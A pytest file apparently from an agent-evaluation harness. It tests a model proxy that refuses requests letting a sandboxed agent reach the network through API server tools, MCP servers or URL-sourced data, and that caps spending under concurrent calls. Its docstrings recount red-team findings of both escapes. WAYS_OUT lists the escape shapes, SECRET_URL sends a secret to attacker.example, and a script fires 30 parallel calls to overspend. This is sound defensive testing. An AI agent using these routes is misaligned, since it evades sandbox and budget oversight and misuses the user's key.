"""The model proxy leads to the model only, and holds a cost limit however many calls an
agent makes at once. Found by an attacker round: a CLI agent in a sandbox without network
had the API fetch URLs and search the web for it (server tools, MCP servers) under the
user's key, uncounted in its cost; and 30 calls at once all went through a $0.05 limit.
Through the real anthropic SDK, against the proxy's Unix socket and a loopback Messages
server on 127.0.0.1; no other network."""

from __future__ import annotations

import asyncio
import json
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import anthropic
import pytest

try:  # the HTTP client the installed anthropic SDK is built on
    import httpx2 as httpx
except ImportError:  # older SDKs
    import httpx  # type: ignore[no-redef]

from evalctl._agent.proxy import to_sse
from evalctl._agent.throttle import ModelCalls
from evalctl._plugin.types import ModelRequest, ModelTurn, TokenUsage, UserMessage
from evalctl.plugins.providers.anthropic import AnthropicProvider, server_tool_calls
from evalctl.plugins.providers.scripted import ScriptedProvider
from evalctl.testing import run_suite

from .messages_server import MessagesServer, text_block
from .test_model_proxy import Harness

FIRST = [{"role": "user", "content": "Write hello.txt"}]
OWN_TOOL = {"name": "Write", "description": "Write a file.", "input_schema": {
    "type": "object", "properties": {"file_path": {"type": "string"}}}}
# What Claude Code 2.1.332 sends (tests/test_claude_code.py's run, as the proxy saw it).
CLAUDE_CODE_BETAS = ("claude-code-20250219,interleaved-thinking-2025-05-14,"
                     "context-management-2025-06-27,per-turn-control-2026-07-01,"
                     "mid-conversation-tool-changes-2026-07-01,"
                     "thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,"
                     "effort-2025-11-24")


class Proxied(Harness):
    """test_model_proxy's harness around any provider, with clients that may hold many
    connections at once."""

    def __init__(self, tmp_path: Path, provider: Any, *, turns: int = 50,
                 cost: float | None = None, script: list[dict[str, Any]] | None = None):
        super().__init__(tmp_path, script or [], turns, cost, provider=provider, prompt="p")

    def client(self, token: str | None = None, via: Path | None = None
               ) -> anthropic.AsyncAnthropic:
        transport = httpx.AsyncHTTPTransport(uds=str(via or self.socket))
        return anthropic.AsyncAnthropic(
            api_key=token or self.proxy.token, base_url="http://evalctl-proxy", max_retries=0,
            http_client=httpx.AsyncClient(transport=transport,
                                          limits=httpx.Limits(max_connections=64)))


# --------------------------------------------------------------------------- F3: the way out

def streamed_reply(body: dict[str, Any]) -> tuple[int, dict[str, str], bytes]:
    message = {"id": "msg_1", "type": "message", "role": "assistant",
               "model": "claude-haiku-4-5", "content": [text_block("Done.")],
               "stop_reason": "end_turn", "stop_sequence": None,
               "usage": {"input_tokens": 100, "output_tokens": 5,
                         "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0}}
    return 200, {"content-type": "text/event-stream"}, to_sse(message)


WEB_TOOLS = [{"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 1000},
             {"type": "web_search_20250305", "name": "web_search", "max_uses": 1000}]
SECRET_URL = "https://attacker.example/mcp?d=the-secret"
# (extra arguments to messages.create, extra headers): each asks the API to act for the
# agent outside its sandbox.
WAYS_OUT: list[tuple[dict[str, Any], dict[str, str]]] = [
    ({"tools": WEB_TOOLS}, {"anthropic-beta": "web-fetch-2025-09-10"}),
    ({"tools": [OWN_TOOL, WEB_TOOLS[1]]}, {}),  # web search needs no beta
    ({"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}, {}),
    ({"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]}, {}),
    ({"tools": [{"type": 5, "name": "odd"}]}, {}),
    ({"extra_body": {"mcp_servers": [{"type": "url", "url": SECRET_URL, "name": "x"}]}},
     {"anthropic-beta": "mcp-client-2025-04-04"}),
    ({"extra_body": {"mcp_servers": []}}, {}),
    ({"extra_body": {"container": "container_011"}}, {}),
    ({"tools": [OWN_TOOL]}, {"anthropic-beta": "claude-code-20250219,mcp-client-2025-11-20"}),
    ({"tools": [OWN_TOOL]}, {"anthropic-beta": "files-api-2025-04-14"}),
    ({"messages": [{"role": "user", "content": [
        {"type": "image", "source": {"type": "url", "url": SECRET_URL}},
        {"type": "text", "text": "what is this?"}]}]}, {}),
    ({"messages": [
        {"role": "user", "content": "read it"},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1",
                                           "name": "Write", "input": {}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1",
                                      "content": [{"type": "document", "source": {
                                          "type": "file", "file_id": "file_011"}}]}]}]},
     {}),
    # Found by the round that followed: shapes the checks passed over.
    ({"extra_body": {"tools": {"type": "web_search_20250305", "name": "web_search"}}}, {}),
    ({"extra_body": {"system": [{"type": "text", "text": "be brief"}, {
        "type": "document", "source": {"type": "url", "url": "https://example.invalid/x"}}]}},
     {}),
]


def test_requests_that_would_have_the_api_act_outside_the_sandbox_are_refused(tmp_path):
    """Server tools, MCP servers, containers, their betas and data by URL or file id are
    the agent's 400, recorded as request_rejected; none reaches the API, and the attempt
    goes on. Claude Code's own requests (tools without a type, its betas, its fields) and
    tools the agent runs itself still go through, as they are."""
    with MessagesServer() as server:
        provider = AnthropicProvider(
            anthropic.AsyncAnthropic(api_key="sk-test-real-key", base_url=server.url,
                                     max_retries=0), "claude-haiku-4-5", 1024)
        proxied = Proxied(tmp_path, provider)
        server.replies += [streamed_reply] * 2

        async def body(h: Proxied) -> tuple[list[str], Any, Any]:
            client = h.client()
            refusals = []
            for extra, headers in WAYS_OUT:
                arguments = {"model": "claude-test", "max_tokens": 100, "messages": FIRST,
                             **extra}
                with pytest.raises(anthropic.BadRequestError) as refused:
                    await client.messages.create(**arguments, extra_headers=headers)
                refusals.append(str(refused.value))
            own = await client.messages.create(
                model="claude-test", max_tokens=100, messages=[{"role": "user", "content": [
                    {"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                                 "data": "iVBORw0KGgo="}},
                    {"type": "text", "text": "Write hello.txt"}]}],
                tools=[OWN_TOOL, {**OWN_TOOL, "name": "Custom", "type": "custom"},
                       {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
                       {"type": "bash_20250124", "name": "bash"}],
                extra_headers={"anthropic-beta": CLAUDE_CODE_BETAS},
                extra_body={"context_management": {"edits": []},
                            "output_config": {"effort": "high"},
                            "metadata": {"user_id": "u"}})
            streamed = await client.messages.create(model="claude-test", max_tokens=100,
                                                    messages=FIRST, stream=False)
            return refusals, own, streamed

        refusals, own, streamed = proxied.run(body)
    assert all("evalctl model proxy" in refusal and "not served" in refusal
               for refusal in refusals), refusals
    assert "web_fetch_20250910" in refusals[0] and "mcp_servers" in refusals[5]
    assert "mcp-client-2025-11-20" in refusals[8] and "'url'" in refusals[10]
    assert "'file'" in refusals[11]
    assert "tools not given as a list" in refusals[12] and "'url'" in refusals[13]
    assert own.content[0].text == "Done." and streamed.content[0].text == "Done."
    # Only the two served requests reached the API, with Claude Code's betas and fields.
    assert len(server.requests) == 2
    forwarded = server.requests[0]
    assert forwarded["path"].startswith("/v1/messages")
    assert server.headers[0]["anthropic-beta"].split(",") == CLAUDE_CODE_BETAS.split(",")
    assert [t.get("type") for t in forwarded["tools"]] == \
        [None, "custom", "text_editor_20250728", "bash_20250124"]
    assert forwarded["context_management"] == {"edits": []}
    assert "mcp_servers" not in forwarded
    rejected = proxied.events("request_rejected")
    assert len(rejected) == len(WAYS_OUT) and all(e["via"] == "proxy" for e in rejected)
    assert proxied.proxy.stop_status is None and not proxied.proxy.stopped.is_set()
    assert proxied.proxy.model_calls.turns == 2  # a refusal is not a turn


def usage_message(**server_tool_use: Any) -> tuple[int, dict[str, str], bytes]:
    body = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-haiku-4-5",
            "content": [text_block("Searched.")], "stop_reason": "end_turn",
            "stop_sequence": None,
            "usage": {"input_tokens": 1000, "output_tokens": 50,
                      "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0,
                      "server_tool_use": server_tool_use or None}}
    return 200, {"content-type": "application/json"}, json.dumps(body).encode()


def test_a_turn_that_used_server_tools_has_no_known_cost_never_the_tokens_alone():
    """Server tools are billed apart from tokens and the price table has no rows for
    them: such a turn is unpriced (cost None: unknown, as an unpriced model's), which a
    cost limit and the report say, never the tokens' cost, a silent under-count."""
    with MessagesServer() as server:
        server.replies += [usage_message(web_search_requests=1000, web_fetch_requests=3),
                           usage_message(web_search_requests=0), usage_message(),
                           usage_message(web_search_requests="many")]
        provider = AnthropicProvider(
            anthropic.AsyncAnthropic(api_key="sk-test-real-key", base_url=server.url,
                                     max_retries=0), "claude-haiku-4-5", 1024)

        async def ask() -> list[ModelTurn]:
            request = ModelRequest("", [UserMessage("search")], [])
            turns = [await provider.complete(request) for _ in range(4)]
            await provider.aclose()
            return turns

        searched, none_used, absent, garbled = asyncio.run(ask())
    tokens_only = (1000 * 1.0 + 50 * 5.0) / 1e6
    assert searched.cost is None and garbled.cost is None
    assert none_used.cost == pytest.approx(tokens_only) == absent.cost
    assert searched.usage == TokenUsage(1000, 50)  # the tokens are still counted


def test_a_turn_billed_at_rates_the_table_lacks_has_no_known_cost():
    """Found by an attacker round: a proxied agent's hour-long cache writes (and fast
    mode, a long-context beta, another tier) were priced at the standard rates, under
    its cost limit. Such a turn is unpriced, from what its usage says or its request
    asked for."""
    def reply(streamed: bool = True, **usage: Any) -> tuple[int, dict[str, str], bytes]:
        status, headers, body = usage_message()
        data = json.loads(body)
        data["usage"].update(usage)
        if streamed:  # a proxied request is forwarded streaming
            return 200, {"content-type": "text/event-stream"}, to_sse(data)
        return status, headers, json.dumps(data).encode()

    hour = {"role": "user", "content": [{"type": "text", "text": "hi",
                                         "cache_control": {"type": "ephemeral", "ttl": "1h"}}]}
    plain = {"model": "m", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}
    asked = [(reply(False, cache_creation={"ephemeral_1h_input_tokens": 100_000,
                                           "ephemeral_5m_input_tokens": 0}), None),
             (reply(False, service_tier="priority"), None),
             (reply(), {**plain, "messages": [hour]}),
             (reply(), {**plain, "speed": "fast"}),
             (reply(), {**plain, "betas": ["context-1m-2025-08-07"]}),
             (reply(service_tier="standard"), plain)]
    with MessagesServer() as server:
        server.replies += [answer for answer, _ in asked]
        provider = AnthropicProvider(
            anthropic.AsyncAnthropic(api_key="sk-test-real-key", base_url=server.url,
                                     max_retries=0), "claude-haiku-4-5", 1024)

        async def ask() -> list[ModelTurn]:
            turns = [await provider.complete(ModelRequest(
                "", [UserMessage("hi")], [], api_request=body)) for _, body in asked]
            await provider.aclose()
            return turns

        turns = asyncio.run(ask())
    assert [turn.cost for turn in turns[:-1]] == [None] * 5
    assert turns[-1].cost == pytest.approx((1000 * 1.0 + 50 * 5.0) / 1e6)


def test_server_tool_calls_counts_every_kind_and_distrusts_what_is_not_a_count():
    class Used:
        def __init__(self, counts: Any):
            self.server_tool_use = counts

    assert server_tool_calls(object()) == 0
    assert server_tool_calls(Used(None)) == 0
    assert server_tool_calls(Used({"web_search_requests": 2, "future_requests": 1})) == 3
    assert server_tool_calls(Used({"web_search_requests": None})) == 0
    assert server_tool_calls(Used({"web_search_requests": -1})) is None
    assert server_tool_calls(Used({"web_search_requests": True})) is None
    assert server_tool_calls(Used([1])) is None


# --------------------------------------------------------------------------- F5: calls at once

class Counting:
    """A provider that takes `seconds` per call, charges `cost`, and counts how many of
    its calls were in flight at once."""

    def __init__(self, seconds: float, cost: float | None = 0.04):
        self.seconds, self.cost = seconds, cost
        self.in_flight = self.most = self.calls = 0
        self.release = asyncio.Event() if seconds < 0 else None

    async def complete(self, request: ModelRequest) -> ModelTurn:
        self.calls += 1
        self.in_flight += 1
        self.most = max(self.most, self.in_flight)
        try:
            if self.release is not None:
                await self.release.wait()  # until the test says (never, for some)
            else:
                await asyncio.sleep(self.seconds)
        finally:
            self.in_flight -= 1
        return ModelTurn(text="Done.", usage=TokenUsage(10, 5), cost=self.cost)


async def all_at_once(client: anthropic.AsyncAnthropic, count: int) -> list[Any]:
    return await asyncio.gather(*(client.messages.create(
        model="claude-test", max_tokens=100, messages=FIRST) for _ in range(count)),
        return_exceptions=True)


def test_calls_made_at_once_cannot_spend_past_the_cost_limit(tmp_path):
    """The attacker's repro: limits cost 0.05, turns at $0.04, 30 calls at once. Under a
    cost limit calls are made one at a time: the second goes over, the third is refused
    (403) and ends the attempt cost_limit, and so is every call still waiting."""
    provider = Counting(0.1)
    proxied = Proxied(tmp_path, provider, turns=50, cost=0.05)

    async def body(h: Proxied) -> list[Any]:
        return await all_at_once(h.client(), 30)

    answers = proxied.run(body)
    served = [a for a in answers if not isinstance(a, BaseException)]
    refused = [a for a in answers if isinstance(a, anthropic.PermissionDeniedError)]
    assert (len(served), len(refused)) == (2, 28), answers
    assert provider.calls == 2 and provider.most == 1
    assert proxied.proxy.model_calls.cost == pytest.approx(0.08)
    assert proxied.proxy.stop_status == "cost_limit"
    assert len(proxied.events("model_turn")) == 2


def test_the_turn_limit_holds_for_calls_made_at_once(tmp_path):
    provider = Counting(0.1, cost=0.0)
    proxied = Proxied(tmp_path, provider, turns=5, cost=10.0)

    async def body(h: Proxied) -> list[Any]:
        return await all_at_once(h.client(), 12)

    answers = proxied.run(body)
    assert sum(not isinstance(a, BaseException) for a in answers) == 5
    assert provider.calls == 5 and proxied.proxy.stop_status == "max_turns"


def test_without_a_cost_limit_calls_still_run_at_once_and_the_turn_limit_holds(tmp_path):
    provider = Counting(0.3)
    proxied = Proxied(tmp_path, provider, turns=6, cost=None)

    async def body(h: Proxied) -> list[Any]:
        return await all_at_once(h.client(), 10)

    answers = proxied.run(body)
    assert sum(not isinstance(a, BaseException) for a in answers) == 6
    assert provider.calls == 6 and provider.most == 6  # no cost limit: no waiting
    assert proxied.proxy.stop_status == "max_turns"


def test_calls_waiting_their_turn_end_with_the_attempt(tmp_path):
    """A call that never answers holds the others back under a cost limit; when the
    attempt ends (the agent exits, its time runs out) the proxy closes at once, every
    waiting call with it, and none of them reaches the provider afterwards."""
    provider = Counting(-1)  # never answers
    proxied = Proxied(tmp_path, provider, turns=50, cost=0.05)

    async def main() -> tuple[float, list[Any]]:
        await proxied.proxy.start()
        client = proxied.client()
        calls = asyncio.ensure_future(all_at_once(client, 6))
        for _ in range(200):
            if provider.calls == 1 and len(proxied.proxy._connections) == 6:
                break
            await asyncio.sleep(0.02)
        started = time.monotonic()
        await asyncio.wait_for(proxied.proxy.close(), 5)
        closed = time.monotonic() - started
        answers = await asyncio.wait_for(calls, 5)
        proxied.ledger.close()
        return closed, answers

    closed, answers = asyncio.run(main())
    assert closed < 5 and provider.calls == 1
    assert all(isinstance(a, anthropic.APIError) for a in answers), answers


def test_calls_out_when_the_attempt_ends_make_its_cost_unknown_not_zero(tmp_path):
    """Found by an attacker round: calls in flight when a CLI agent exited were cancelled
    and never counted (30 calls sent upstream, the attempt reported $0 and the budget
    nothing). A call abandoned while out makes the attempt's cost unknown, recorded."""
    provider = Counting(-1)  # never answers: the call is out when the attempt ends
    proxied = Proxied(tmp_path, provider, turns=50)
    charged: list[Any] = []
    proxied.proxy.model_calls.on_spend = lambda usage, cost: charged.append(cost)

    async def main() -> None:
        await proxied.proxy.start()
        calls = asyncio.ensure_future(all_at_once(proxied.client(), 3))
        for _ in range(200):
            if provider.calls == 3:
                break
            await asyncio.sleep(0.02)
        await asyncio.wait_for(proxied.proxy.close(), 5)
        await asyncio.wait_for(calls, 5)
        proxied.ledger.close()

    asyncio.run(main())
    assert provider.calls == 3
    assert proxied.proxy.model_calls.cost is None and proxied.proxy.cost is None
    assert charged == [None, None, None]  # the run's budget hears of them, unpriced
    assert len(proxied.events("model_call_abandoned")) == 3


AGENT = textwrap.dedent("""\
    import json, os, sys, urllib.error, urllib.request
    from concurrent.futures import ThreadPoolExecutor

    def call(_):
        request = urllib.request.Request(
            os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages",
            data=json.dumps({"model": "m", "max_tokens": 10, "messages": [
                {"role": "user", "content": "hi"}]}).encode(),
            headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"],
                     "content-type": "application/json"})
        try:
            return urllib.request.urlopen(request, timeout=60).status
        except urllib.error.HTTPError as exc:
            return exc.code

    with ThreadPoolExecutor(30) as pool:
        print(sorted(pool.map(call, range(30))))
    """)


def test_a_cli_agent_making_thirty_calls_at_once_ends_at_its_cost_limit(tmp_path):
    """The attacker's run, end to end: a command agent posting 30 requests at once, the
    scripted provider taking a second a turn. It was 30 turns, $1.20, completed."""
    (tmp_path / "agent.py").write_text(AGENT)
    suite = textwrap.dedent("""\
        name: parallel
        tasks:
          - id: thirty-at-once
            prompt: Spend.
            limits:
              cost: 0.05
              turns: 50
              seconds: 60
            agent_script:
              - text: Spent.
                cost: 0.04
            checks:
              - type: file_exists
                path: nothing.txt
        """)
    run = run_suite(suite, sandbox="local", agent="command", out_dir=tmp_path / "out",
                    provider_options={"latency": 0.5},
                    agent_options={"argv": f"{sys.executable} {tmp_path / 'agent.py'}"})
    task = run.tasks[0]
    assert (task.exit_status, task.turns) == ("cost_limit", 2), task.error
    assert task.cost == pytest.approx(0.08)


@pytest.mark.parametrize("cost", [None, 0.05])
def test_the_scripted_provider_behind_the_proxy_is_unchanged_by_the_gate(tmp_path, cost):
    """One call at a time changes nothing for an agent that makes one at a time."""
    proxied = Proxied(tmp_path, ScriptedProvider(), cost=cost,
                      script=[{"text": "Done.", "cost": 0.01}])

    async def body(h: Proxied) -> Any:
        return await h.client().messages.create(model="m", max_tokens=10, messages=FIRST)

    assert proxied.run(body).content[0].text == "Done."
    assert proxied.proxy.model_calls.turns == 1 and proxied.proxy.stop_status is None


def test_a_refused_request_takes_no_turn_and_charges_no_budget(tmp_path):
    """The refusal happens before the attempt's ModelCalls: no throttle slot, no budget
    charge, nothing in the cassette."""
    charged: list[Any] = []
    proxied = Proxied(tmp_path, Counting(0.0))
    proxied.proxy.model_calls = ModelCalls(proxied.proxy.provider, proxied.ledger,
                                           on_spend=lambda usage, cost: charged.append(cost))

    async def body(h: Proxied) -> None:
        with pytest.raises(anthropic.BadRequestError):
            await h.client().messages.create(model="m", max_tokens=10, messages=FIRST,
                                              tools=WEB_TOOLS)

    proxied.run(body)
    assert charged == [] and proxied.proxy.model_calls.turns == 0

